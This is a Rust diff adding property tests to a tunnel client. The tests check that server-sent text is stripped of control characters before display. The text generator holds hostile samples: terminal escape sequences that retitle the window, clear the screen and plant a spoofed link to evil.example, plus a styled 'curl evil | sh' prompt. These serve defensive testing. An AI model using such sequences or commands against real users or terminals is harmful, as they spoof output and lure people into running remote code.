@@ -18,6 +18,7 @@
 use std::collections::BTreeSet;
 use std::fmt::Debug;
 
+use mytunnel_core::printable::{is_unprintable, Printable};
 use mytunnel_core::protocol::{
     decode_reply, ApiError, ComponentHealth, CtlResponse, DeletedDto, ErrorCode, ErrorEnvelope,
     HealthDto, LeaseDto, PortUsage, ReconcileDto, StateCounts, StatsDto, Verb,
@@ -54,8 +55,31 @@ fn to_value<T: Serialize>(v: T) -> Value {
 
 // --- value strategies --------------------------------------------------------------------
 
+/// Any text, and text a hostile edge would send: escape sequences (CSI, OSC with BEL or
+/// ST, OSC 8 links), other C0 and C1 controls, DEL and bidirectional overrides.
 fn text() -> BoxedStrategy<Value> {
-    any::<String>().prop_map(Value::from).boxed()
+    let hostile_char = prop_oneof![
+        any::<char>(),
+        (0u32..0x20).prop_map(|c| char::from_u32(c).unwrap()),
+        (0x7fu32..0xa0).prop_map(|c| char::from_u32(c).unwrap()),
+        proptest::sample::select(vec!['\u{202E}', '\u{2066}', '\u{200F}', '\u{1b}', '\u{7}']),
+    ];
+    let hostile = proptest::collection::vec(hostile_char, 0..40)
+        .prop_map(|chars| chars.into_iter().collect::<String>());
+    let sequence = proptest::sample::select(vec![
+        "\u{1b}]0;pwned\u{7}",
+        "\u{1b}[2J\u{1b}[H",
+        "\u{1b}[31;1mrun: curl evil | sh\u{1b}[0m",
+        "\u{1b}]8;;https://evil.example/\u{1b}\\docs\u{1b}]8;;\u{1b}\\",
+        "\u{9b}2J",
+    ]);
+    prop_oneof![
+        any::<String>(),
+        hostile,
+        (any::<String>(), sequence).prop_map(|(t, s)| format!("{t}{s}")),
+    ]
+    .prop_map(Value::from)
+    .boxed()
 }
 
 fn u64_value() -> BoxedStrategy<Value> {
@@ -249,8 +273,69 @@ where
     Ok(value)
 }
 
+/// Every string a decoded answer holds.
+fn strings_of(response: &CtlResponse) -> Vec<String> {
+    match response {
+        CtlResponse::Lease(l) => vec![l.slug.clone(), l.host.clone(), l.owner.to_string()],
+        CtlResponse::Leases(ls) => ls
+            .iter()
+            .flat_map(|l| [l.slug.clone(), l.host.clone(), l.owner.to_string()])
+            .collect(),
+        CtlResponse::Health(h) => vec![
+            h.version.clone(),
+            h.base_domain.clone(),
+            h.db.detail.clone(),
+            h.caddy.detail.clone(),
+        ],
+        CtlResponse::Stats(s) => s
+            .per_owner
+            .iter()
+            .flatten()
+            .map(|(o, _)| o.clone())
+            .collect(),
+        CtlResponse::Deleted(d) => vec![d.deleted.to_string()],
+        CtlResponse::Reconciled(_) => Vec::new(),
+    }
+}
+
+fn all_printable(strings: &[String]) -> bool {
+    strings.iter().all(|s| !s.chars().any(is_unprintable))
+}
+
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(256))]
+
+    /// Whatever the edge sends, once the client made it printable no control character
+    /// (nor bidirectional override) is left in any string it could show.
+    #[test]
+    fn edge_text_is_printable_once_decoded(
+        list in proptest::collection::vec(object(lease_fields()), 0..4),
+        envelope in object(envelope_fields()),
+        health in object(health_fields()),
+        stats in object(stats_fields()),
+    ) {
+        for (verb, json) in [
+            (Verb::List, Value::Array(list)),
+            (Verb::Allocate, envelope),
+            (Verb::Health, health),
+            (Verb::Stats, stats),
+        ] {
+            match decode_reply(verb, &json.to_string()) {
+                Ok(response) => {
+                    let shown = response.printable();
+                    prop_assert!(all_printable(&strings_of(&shown)), "{shown:?}");
+                }
+                Err(mytunnel_core::protocol::ReplyError::Refused(error)) => {
+                    let shown = error.printable();
+                    prop_assert!(
+                        all_printable(&[shown.message.clone(), shown.hint.clone()]),
+                        "{shown:?}"
+                    );
+                }
+                Err(other) => prop_assert!(false, "{verb}: {other}"),
+            }
+        }
+    }
 
     #[test]
     fn lease_dto(json in object(lease_fields())) {
